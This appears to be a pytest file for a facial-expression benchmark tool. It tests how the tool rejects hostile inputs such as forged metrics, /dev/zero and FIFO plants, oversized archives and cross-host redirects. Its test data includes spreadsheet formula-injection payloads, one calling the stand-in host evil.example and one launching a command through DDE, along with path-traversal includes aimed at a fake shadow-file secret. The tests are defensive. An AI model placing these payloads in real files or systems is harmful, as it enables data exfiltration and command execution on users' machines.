"""Hostile inputs, round 3 (issue 29): numbers that cannot be hand-edited into a report, an interrupt
that stops spending, one set of limits, bounded reads of data, an unwritable cache, redirects to
another host, spreadsheet formulas in CSV exports, and includes outside the suite's folder.

Runs are tiny: synthetic faces, 10 training images per class, 1 epoch of the MLP.
"""
from __future__ import annotations

import copy
import csv
import io
import json
import math
import random
import shutil
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner
from conftest import FINISHED_SUITE
from test_hostile import SUITE as TWO_MLPS  # the helpers of the first hostile-input tests
from test_hostile import cli
from test_hostile import write_suite as _write_suite

from ferbench.cli import main
from ferbench.leaderboard import collect
from ferbench.store import load_run

SUITE = TWO_MLPS.replace("      - {model: mlp, label: b}\n", "")  # the same suite with one experiment, s.a


def write_suite(folder: Path, text: str = SUITE, name: str = "suite.yaml") -> Path:
    return _write_suite(folder, text, name)


@pytest.fixture
def run_dir(finished_run, tmp_path) -> Path:
    """A private copy of conftest's finished run (s.a, which the tests edit, and s.b, which stays)."""
    shutil.copytree(finished_run / "t", tmp_path / "t")
    return tmp_path / "t"


def ids(run) -> list[str]:
    return [r.id for r in run.results]


def result_a(run):
    return next(r for r in run.results if r.id == "s.a")


def rows_a(rows) -> list:
    return [r for r in rows if r["experiment"] == "s.a"]


def edit_result(run: Path, change) -> None:
    p = run / "s.a" / "result.json"
    raw = json.loads(p.read_text())
    change(raw)
    p.write_text(json.dumps(raw))


# --- 1. reported numbers come from the digested predictions ----------------------------------------------

def test_an_edited_metric_is_left_out_everywhere(run_dir):
    original = result_a(load_run(run_dir)).metrics["test"]
    assert rows_a(collect([run_dir]).rows)  # while valid, s.a has rows

    def forge(raw):
        m = raw["metrics"]["test"]
        m["accuracy"] = min(1.0, m["accuracy"] + 0.25)
        m["accuracy_ci"] = [0.0, 1.0]

    edit_result(run_dir, forge)
    run = load_run(run_dir)
    assert ids(run) == ["s.b"] and "metrics.test.accuracy is" in run.left_out[0][1]
    assert "predictions.csv gives" in run.left_out[0][1]
    assert rows_a(collect([run_dir]).rows) == []
    r = cli("results", run_dir)
    assert r.exit_code == 0 and f"{100 * original.accuracy + 25:.2f}" not in r.output and "left out" in r.output
    r = cli("report", run_dir)
    assert r.exit_code == 0, r.output
    assert "predictions.csv gives" in (run_dir / "report.md").read_text()


@pytest.mark.parametrize("field,value,why", [
    ("accuracy", 7.5, "less than or equal to 1"),
    ("n", -3, "greater than or equal to"),
    ("accuracy", "0.99", "a number is expected, not str"),
    ("n", True, "an integer is expected, not bool"),
    ("macro_f1", float("nan"), "metrics.test.macro_f1"),
    ("accuracy_ci", [0.9, 0.1], "upside down"),
    ("confusion", [[999999]], "confusion must be"),
])
def test_wrong_types_ranges_and_shapes_leave_one_result_out_with_its_reason(run_dir, field, value, why):
    edit_result(run_dir, lambda raw: raw["metrics"]["test"].__setitem__(field, value))
    run = load_run(run_dir)
    assert ids(run) == ["s.b"] and why in run.left_out[0][1], run.left_out
    r = cli("report", run_dir)  # the whole report still renders; that one result is listed as left out
    assert r.exit_code == 0, r.output


def test_a_tampered_result_is_incomplete_in_list_and_rerun(run_dir):
    suite = write_suite(run_dir.parent / "suite", FINISHED_SUITE)
    edit_result(run_dir, lambda raw: raw["metrics"]["test"].__setitem__("macro_f1", 0.999))
    r = cli("list", suite, "--results-dir", run_dir.parent, "--json")
    assert r.exit_code == 0, r.output
    rows = {row["id"]: row for row in json.loads(r.output)["experiments"]}
    assert rows["s.b"]["status"] == "complete", rows["s.b"]
    row = rows["s.a"]
    assert row["status"] == "incomplete" and "metrics.test.macro_f1" in row["detail"]


FUZZ_VALUES = [float("nan"), float("inf"), -float("inf"), "0.99", True, False, None, -3, 7.5, 1e308, 2**70,
               [], [[999999]], {}, [0.1], [0.9, 0.1], "x", -1e-9]


def _paths(obj, prefix=()):
    """Every leaf (and list) of a JSON object, as a key path."""
    out = [prefix] if prefix else []
    if isinstance(obj, dict):
        for k, v in obj.items():
            out += _paths(v, prefix + (k,))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            out += _paths(v, prefix + (i,))
    return out


def _set(obj, path, value):
    for k in path[:-1]:
        obj = obj[k]
    obj[path[-1]] = value


def _nudge(value, rng):
    """A plausible hand edit that keeps the type and range: what a schema alone cannot catch."""
    if isinstance(value, int):
        return max(0, value + rng.choice([-1, 1]))
    if 0 <= value <= 1:
        return min(1.0, max(0.0, value + rng.choice([-0.01, 0.01, -1e-6, 1e-6])))
    return value * rng.choice([0.5, 2.0]) + 1e-3


def _get(obj, path):
    for k in path:
        obj = obj[k]
    return obj


def test_fuzz_no_edited_value_reaches_a_table(run_dir):
    """Seeded random edits of result.json's numbers (types, ranges, NaN/inf, shapes, plausible nudges): the
    result is either left out with a reason, or what reaches a table is exactly the untouched numbers."""
    p = run_dir / "s.a" / "result.json"
    pristine = json.loads(p.read_text())
    truth = result_a(load_run(run_dir))
    truth_rows = collect([run_dir]).rows
    paths = [q for q in _paths(pristine) if q[0] in ("metrics", "timing", "parameters", "history")]
    leaves = [q for q in paths if isinstance(_get(pristine, q), (int, float)) and not isinstance(_get(pristine, q), bool)]
    rng = random.Random(29)
    outcomes = {"kept": 0, "refused by schema": 0, "refused by predictions": 0}
    for _ in range(150):
        raw = copy.deepcopy(pristine)
        for _ in range(rng.randint(1, 3)):
            try:  # an earlier edit of this round may have replaced the container of this path
                if rng.random() < 0.5:
                    path = rng.choice(leaves)
                    _set(raw, path, _nudge(_get(raw, path), rng))
                else:
                    _set(raw, rng.choice(paths), rng.choice(FUZZ_VALUES))
            except (IndexError, KeyError, TypeError):
                continue
        p.write_text(json.dumps(raw))
        run = load_run(run_dir)
        if "s.a" in ids(run):
            outcomes["kept"] += 1
            assert result_a(run).metrics == truth.metrics
            assert collect([run_dir]).rows == truth_rows
        else:
            why = run.left_out[0][1]
            outcomes["refused by predictions" if "predictions.csv gives" in why else "refused by schema"] += 1
    assert all(outcomes.values()), outcomes  # harmless edits (timing), wrong types and forged numbers all occur


# --- 7. spreadsheet formulas are neutralised in every CSV export -------------------------------------------

@pytest.mark.parametrize("cell,safe", [
    ('=HYPERLINK("http://x/?"&A1, "open")', '\'=HYPERLINK("http://x/?"&A1, "open")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-1", "-1"), ("1e-05", "1e-05"), ("happy", "happy"), (-1, -1),
])
def test_safe_cell_follows_owasp(cell, safe):
    from ferbench.csvsafe import safe_cell

    assert safe_cell(cell) == safe


def test_a_suite_label_formula_is_inert_in_tables_and_results_csv(tmp_path):
    suite = write_suite(tmp_path, SUITE.replace("label: a", "label: '-2+3'"))
    r = cli("run", suite, "--results-dir", tmp_path / "res")
    assert r.exit_code == 0, r.output
    run = tmp_path / "res" / "t"
    texts = [p.read_text() for p in (run / "tables").glob("*.csv")]
    r = cli("results", run, "--csv", tmp_path / "all.csv")
    assert r.exit_code == 0, r.output
    texts.append((tmp_path / "all.csv").read_text())
    cells = [c for t in texts for row in csv.reader(io.StringIO(t)) for c in row]
    assert "'-2+3" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _number(c))]


def _number(s: str) -> bool:
    try:
        return math.isfinite(float(s))
    except ValueError:
        return False


# --- 8. include: only suite YAML under the suite's own folder, never quoted -------------------------------

SECRET = "root:$6$secretsalt$hash:19000:0:99999:7:::\nMYSECRETKEY: hunter2\n"


@pytest.mark.parametrize("inc", ["{secret}", "../outside/secret.yaml", "linked.yaml", "notes.txt"])
def test_include_outside_the_suite_folder_is_refused_unread(tmp_path, inc):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.yaml").write_text(SECRET)
    suite_dir = tmp_path / "suite"
    suite_dir.mkdir()
    (suite_dir / "linked.yaml").symlink_to(outside / "secret.yaml")
    (suite_dir / "notes.txt").write_text(SECRET)
    inc = inc.format(secret=outside / "secret.yaml")
    suite = write_suite(suite_dir, f"name: t\ninclude: ['{inc}']\n")
    r = cli("validate", suite)
    assert r.exit_code != 0 and "under the suite's own folder" in r.output
    assert "hunter2" not in r.output and "secretsalt" not in r.output and "MYSECRETKEY" not in r.output


def test_a_problem_in_an_included_non_suite_is_counted_not_quoted(tmp_path):
    (tmp_path / "creds.yaml").write_text(SECRET)  # YAML under the folder, but not a suite
    (tmp_path / "other.yaml").write_text("name: o\nstudies: []\nhunter2_api_token: MYSECRETKEY\n")  # not suite keys
    for name in ("creds.yaml", "other.yaml"):
        suite = write_suite(tmp_path, f"name: t\ninclude: [{name}]\n", name="top.yaml")
        r = cli("validate", suite)
        assert r.exit_code != 0 and "not a valid suite" in r.output and f"ferbench validate" in r.output
        assert "hunter2" not in r.output and "secretsalt" not in r.output and "MYSECRETKEY" not in r.output


def test_an_include_under_the_folder_still_works(tmp_path):
    (tmp_path / "sub").mkdir()
    write_suite(tmp_path / "sub", SUITE.replace("name: s\n", "name: s2\n"), name="part.yaml")
    suite = write_suite(tmp_path, SUITE + "include: [sub/part.yaml]\n")
    r = cli("validate", suite)
    assert r.exit_code == 0, r.output


# --- 3. one set of limits for suites, profiles and flags, at validation ----------------------------------

LLM_SUITE = """name: t
data: synthetic:700:1
studies:
  - name: s
    split: {kind: official, eval_per_class: 5}
    experiments: [{model: mlp}]
    llm:
      endpoints: [{model: m, api_key_env: FAKE_KEY, base_url: "http://127.0.0.1:9/v1",
                   price_input_per_1m: 1, price_output_per_1m: 1}]
      sample: {per_class: 1}
      timeout: TIMEOUT
"""


@pytest.mark.parametrize("flags,message", [
    (["--max-cost", "nan"], "not a finite number"),
    (["--max-cost", "inf"], "--max-cost"),
    (["--epochs", "1000000000"], "1000000000 is not in the range"),
    (["--seed", str(2**70)], "is not in the range"),
    (["--seed", "-1"], "is not in the range"),
    (["--limit", str(10**12)], "is not in the range"),
])
def test_flags_obey_the_suites_limits(tmp_path, flags, message):
    suite = write_suite(tmp_path, LLM_SUITE.replace("TIMEOUT", "10"))
    r = cli("run", suite, "--results-dir", tmp_path / "res", "--dry-run", *flags)
    assert r.exit_code == 2 and message in r.output, r.output
    assert not (tmp_path / "res").exists()


@pytest.mark.parametrize("edit,message", [
    (lambda s: s.replace("TIMEOUT", "1e300"), "timeout: Input should be less than or equal to 3600"),
    (lambda s: s.replace("TIMEOUT", "10").replace("name: t\n", f"name: t\nseeds: [{2**70}]\n"),
     "less than or equal to 4294967295"),
    (lambda s: s.replace("TIMEOUT", "10").replace("{kind: official,", f"{{kind: official, seed: {2**70},"),
     "less than or equal to 4294967295"),
    (lambda s: s.replace("TIMEOUT", "10") + "profiles:\n  huge: {max_epochs: 1000000000}\n",
     "max_epochs: Input should be less than or equal to 10000"),
    (lambda s: s.replace("TIMEOUT", "10").replace("sample: {per_class: 1}", f"sample: {{per_class: 1, seed: {2**70}}}"),
     "less than or equal to 4294967295"),
    (lambda s: s.replace("TIMEOUT", "10").replace("experiments: [{model: mlp}]",
                                                  "experiments: [{model: mlp, train: {momentum: .nan}}]"),
     "momentum: Input should be a finite number"),
    (lambda s: s.replace("TIMEOUT", ".inf"), "timeout: Input should be a finite number"),
    (lambda s: s.replace("TIMEOUT", "10").replace("api_key_env: FAKE_KEY,", "api_key_env: FAKE_KEY, temperature: .nan,"),
     "temperature: Input should be a finite number"),
])
def test_suite_and_profile_numbers_are_checked_by_validate(tmp_path, edit, message):
    r = cli("validate", write_suite(tmp_path, edit(LLM_SUITE)))
    assert r.exit_code != 0 and message in r.output, r.output


def test_library_callers_get_the_same_limits():
    from ferbench.errors import FerbenchError
    from ferbench.llm.cost import check_max_cost
    from ferbench.suite import Overrides

    for kw in ({"epochs": 10**9}, {"seed": 2**70}, {"seed": True}, {"limit": 0}):
        with pytest.raises(FerbenchError):
            Overrides(**kw)
    for cap in (float("nan"), float("inf"), -1.0):
        with pytest.raises(FerbenchError, match="--max-cost"):
            check_max_cost([], cap)


# --- 4. bounded reads of data: regular files only, bytes capped per image, the file named -----------------

def _kaggle(tmp_path):
    from conftest import make_kaggle_folder

    root = tmp_path / "fer"
    make_kaggle_folder(root, per_class=1)
    return root


def _load(spec, **kw):
    from ferbench.data import load_data

    return load_data(str(spec), use_cache=False, **kw)


@pytest.mark.parametrize("plant", ["dev_zero", "fifo"])
def test_a_non_regular_image_is_refused_or_counted_by_name(tmp_path, plant):
    import os

    from ferbench.errors import DataError

    root = _kaggle(tmp_path)
    bad = root / "train" / "happy" / "Training_9999.jpg"
    if plant == "dev_zero":
        bad.symlink_to("/dev/zero")
    else:
        os.mkfifo(bad)
    with pytest.raises(DataError, match=f"{bad}.*not a regular file"):
        _load(root)
    data = _load(root, skip_bad=True)
    assert data.skipped == [str(bad)] and len(data.labels) == 21


def test_the_data_path_itself_must_be_regular(tmp_path):
    import os

    from ferbench.errors import DataError

    fifo = tmp_path / "fer2013.csv"
    os.mkfifo(fifo)
    with pytest.raises(DataError, match="not a regular file"):
        _load(fifo)
    (tmp_path / "zero.zip").symlink_to("/dev/zero")
    with pytest.raises(DataError, match="not a regular file"):
        _load(tmp_path / "zero.zip")


def test_a_huge_archive_member_is_refused_by_its_declared_size(tmp_path, monkeypatch):
    import tarfile
    import zipfile

    import ferbench.data.sources as sources
    from ferbench.errors import DataError

    monkeypatch.setattr(sources, "MAX_IMAGE_BYTES", 4096)  # the same rule as 16 MiB, at test size
    root = _kaggle(tmp_path)
    big = root / "train" / "happy" / "Training_9999.png"
    big.write_bytes(b"\0" * 50_000)
    with zipfile.ZipFile(tmp_path / "f.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        for p in sorted(root.rglob("*.*")):
            zf.write(p, p.relative_to(tmp_path).as_posix())
    with tarfile.open(tmp_path / "f.tar.gz", "w:gz") as tf:
        tf.add(root, "fer")
    for spec in (root, tmp_path / "f.zip", tmp_path / "f.tar.gz"):
        with pytest.raises(DataError, match=r"Training_9999.png (declares 50,000 bytes|is more than 4,096)"):
            _load(spec)
        data = _load(spec, skip_bad=True)
        assert len(data.skipped) == 1 and "Training_9999.png" in data.skipped[0]
    reads = []
    real = sources._read_capped
    monkeypatch.setattr(sources, "_read_capped", lambda read, declared, name: reads.append(name) or
                        real(read, declared, name))
    with pytest.raises(DataError, match="declares 50,000 bytes"):
        _load(tmp_path / "f.zip")  # zip: refused before a byte is inflated
    assert not any("Training_9999" in r for r in reads)


def test_a_16_bit_png_is_scaled_not_clipped():
    from PIL import Image

    from ferbench.data.sources import decode_image

    ramp = (np.arange(48 * 48, dtype=np.uint32).reshape(48, 48) * 28).astype(np.uint16)  # 0..64,484
    buf = io.BytesIO()
    Image.fromarray(ramp).save(buf, format="PNG")
    assert Image.open(io.BytesIO(buf.getvalue())).mode.startswith("I")
    img = decode_image(buf.getvalue(), "deep.png")
    assert (img == 255).mean() < 0.01 and np.abs(img.astype(float) - ramp / 257).max() <= 0.5 + 1e-9


def test_a_bad_image_message_names_the_file_not_a_buffer():
    from ferbench.data.sources import decode_image
    from ferbench.errors import DataError

    with pytest.raises(DataError) as e:
        decode_image(b"not an image", "train/happy/x.jpg")
    assert "train/happy/x.jpg" in str(e.value) and "BytesIO" not in str(e.value)


# --- 5. an unwritable cache is refused up front in one line ----------------------------------------------

def test_an_unwritable_cache_is_one_line_before_anything_runs(tmp_path, monkeypatch):
    plain = tmp_path / "plain-file"
    plain.write_text("not a folder")
    monkeypatch.setenv("FERBENCH_CACHE", str(plain / "cache"))
    r = cli("run", write_suite(tmp_path / "s"), "--results-dir", tmp_path / "res")
    assert r.exit_code == 1 and "Traceback" not in r.output and isinstance(r.exception, SystemExit)
    assert f"the cache folder {plain / 'cache'} cannot be written" in r.output and "FERBENCH_CACHE" in r.output
    assert len(r.output.strip().splitlines()) == 1, r.output
    assert not (tmp_path / "res").exists()  # refused before anything was written


# --- 6. a redirect to another host is refused --------------------------------------------------------------

def test_a_cross_origin_redirect_is_refused_and_the_other_host_never_asked(tmp_path, env):
    from fake_openai import FakeOpenAI, Reply, correct, llm_experiment, llm_options, ask

    from ferbench.store import RunStore

    split, truth = env
    with FakeOpenAI(correct(truth)) as other:
        moved = {"Location": other.base_url.rstrip("/") + "/chat/completions"}
        with FakeOpenAI(lambda n, sha, body: Reply(status=307, headers=moved)) as srv:
            exp = llm_experiment(model="m", base_url=srv.base_url, per_class=1)
            res = ask(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
    assert res.status == "failed" and "redirected to another host" in res.error, res.error
    assert other.requests == [] and other.http_log == []


# --- 7. (LLM answers) a formula answer is inert in predictions.csv and kept verbatim in the journal -------

def test_a_formula_answer_is_neutralised_in_predictions_and_kept_raw_in_the_journal(tmp_path, env):
    from fake_openai import FakeOpenAI, Reply, llm_experiment, llm_options, ask

    from ferbench.store import RunStore, read_predictions

    split, truth = env
    evil = '=HYPERLINK("http://evil.example/?"&A1, "open")'
    with FakeOpenAI(lambda n, sha, body: Reply(evil)) as srv:
        exp = llm_experiment(model="m", base_url=srv.base_url, per_class=1)
        ask(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
    folder = tmp_path / "r" / "s.llm.m"
    raw_cells = [c for row in csv.reader(io.StringIO((folder / "predictions.csv").read_text())) for c in row]
    assert "'" + evil in raw_cells and evil not in raw_cells
    assert not [c for c in raw_cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _number(c))]
    p = read_predictions(folder / "predictions.csv")
    assert list(p.predicted) == [-1] * 7  # numbers still read back as numbers
    journal = [json.loads(line) for line in (folder / "answers.jsonl").read_text().splitlines()[1:]]
    assert {r["text"] for r in journal} == {evil}


# --- 2. Ctrl-C stops spending, keeps what was answered or trained, says so, exits 130 ---------------------

def _interrupt_after(seconds: float):
    import _thread
    import threading

    t = threading.Timer(seconds, _thread.interrupt_main)
    t.start()
    return t


def test_ctrl_c_during_llm_queries_stops_sending_at_once(tmp_path, env):
    from fake_openai import FakeOpenAI, Reply, llm_experiment, llm_options, ask

    from ferbench.store import RunStore

    split, truth = env
    with FakeOpenAI(lambda n, sha, body: Reply(truth[sha], delay=0.3)) as srv:
        exp = llm_experiment(model="m", base_url=srv.base_url, per_class=5, concurrency=4)  # 35 images
        timer = _interrupt_after(1.0)
        try:
            with pytest.raises(KeyboardInterrupt):
                ask(exp, split, RunStore(tmp_path / "r"), options=llm_options(tmp_path))
        finally:
            timer.cancel()
        sent_at_interrupt_return = len(srv.requests)
        import time

        time.sleep(0.8)  # nothing goes out after the interrupt returned
        assert len(srv.requests) == sent_at_interrupt_return
    assert sent_at_interrupt_return <= 1 + 4 * 3 + 4  # ~1 s of 4 lanes at 0.3 s, plus those on the wire
    journal = (tmp_path / "r" / "s.llm.m" / "answers.jsonl").read_text().splitlines()[1:]
    assert len(journal) == sent_at_interrupt_return  # every answer that came back is journaled
    assert not (tmp_path / "r" / "s.llm.m" / "result.json").exists()


def test_ctrl_c_during_training_exits_130_and_list_shows_it_resumable(tmp_path, monkeypatch):
    from ferbench.store import Checkpoint

    suite = write_suite(tmp_path, SUITE.replace("epochs: 1,", "epochs: 3,"))
    real_save = Checkpoint.save

    def save_then_interrupt(self, state):
        real_save(self, state)
        raise KeyboardInterrupt  # Ctrl-C right after epoch 1's checkpoint

    monkeypatch.setattr(Checkpoint, "save", save_then_interrupt)
    r = CliRunner().invoke(main, ["run", str(suite), "--results-dir", str(tmp_path / "res")])
    assert r.exit_code == 130, (r.output, r.stderr)
    line = r.stderr.strip().splitlines()[-1]
    assert line.startswith("interrupted:") and "s.a: training checkpoint" in line and "resumes" in line
    assert "Aborted" not in r.output + r.stderr
    monkeypatch.setattr(Checkpoint, "save", real_save)
    r = cli("list", suite, "--results-dir", tmp_path / "res", "--json")
    row = json.loads(r.output)["experiments"][0]
    assert row["status"] == "interrupted" and row["detail"].startswith("resumable: training checkpoint")


def test_ctrl_c_during_an_llm_run_says_what_was_journaled_and_exits_130(tmp_path, env):
    import _thread

    from fake_openai import FakeOpenAI, Reply

    def script(n, sha, body):
        if n == 4:
            _thread.interrupt_main()  # Ctrl-C while the 5th request is being answered
        return Reply("happy", delay=0.2)

    with FakeOpenAI(script) as srv:
        suite = write_suite(tmp_path, LLM_SUITE.replace("TIMEOUT", "10").replace("http://127.0.0.1:9/v1", srv.base_url)
                            .replace("per_class: 1", "per_class: 5"))
        r = CliRunner().invoke(main, ["run", str(suite), "--results-dir", str(tmp_path / "res"), "--only", "s.llm.*"])
        sent = len(srv.requests)
    assert r.exit_code == 130, (r.output, r.stderr)
    line = r.stderr.strip().splitlines()[-1]
    assert line.startswith("interrupted:") and "LLM answer(s) journaled" in line and "resumes" in line, line
    assert sent < 35


@pytest.mark.parametrize("plant", ["dev_zero", "fifo", "negative_tokens"])
def test_a_planted_llm_cache_entry_is_ignored_not_read_forever(tmp_path, plant):
    import os

    from ferbench.llm.cache import ResponseCache

    cache = ResponseCache(tmp_path)
    good = {"text": "happy", "finish_reason": "stop", "prompt_tokens": 10, "completion_tokens": 2,
            "reasoning_tokens": 0, "status": "ok"}
    cache.put("ab" * 32, good)
    assert cache.get("ab" * 32) == good
    p = cache._path("ab" * 32)
    p.unlink()
    if plant == "dev_zero":
        p.symlink_to("/dev/zero")
    elif plant == "fifo":
        os.mkfifo(p)
    else:
        p.write_text(json.dumps({**good, "prompt_tokens": -10**6}))
    assert cache.get("ab" * 32) is None


@pytest.mark.parametrize("plant", ["dev_zero", "fifo"])
def test_a_planted_data_cache_file_is_decoded_again_not_read_forever(tmp_path, monkeypatch, plant):
    import os

    from ferbench.data import load_data

    monkeypatch.setenv("FERBENCH_CACHE", str(tmp_path / "cache"))
    root = _kaggle(tmp_path)
    first = load_data(str(root))
    (folder,) = (tmp_path / "cache").rglob("fer-*")
    for name in ("meta.json", "labels.npy"):
        victim = folder / name
        saved = victim.read_bytes()
        victim.unlink()
        victim.symlink_to("/dev/zero") if plant == "dev_zero" else os.mkfifo(victim)
        again = load_data(str(root))  # served by decoding the source again
        assert (again.labels == first.labels).all()
        if victim.is_symlink() or victim.exists():
            victim.unlink()
        victim.write_bytes(saved)


def test_data_info_with_an_unwritable_cache_is_one_line(tmp_path, monkeypatch):
    plain = tmp_path / "plain-file"
    plain.write_text("not a folder")
    monkeypatch.setenv("FERBENCH_CACHE", str(plain / "cache"))
    r = cli("data", "info", "--data", _kaggle(tmp_path))
    assert r.exit_code == 1 and isinstance(r.exception, SystemExit), r.output
    assert "cannot be written" in r.output and len(r.output.strip().splitlines()) == 1


def test_a_csv_line_beyond_the_field_bound_names_the_file(tmp_path):
    from ferbench.errors import DataError

    p = tmp_path / "fer2013.csv"
    p.write_text("emotion,pixels,Usage\n0,\"" + "1 " * 600_000 + "\",Training\n")  # over any field bound set
    with pytest.raises(DataError, match=f"{p} line 2"):
        _load(p)
    p.write_text("x" * 1_200_000 + "\n")
    with pytest.raises(DataError, match=f"{p} line 1"):
        _load(p)
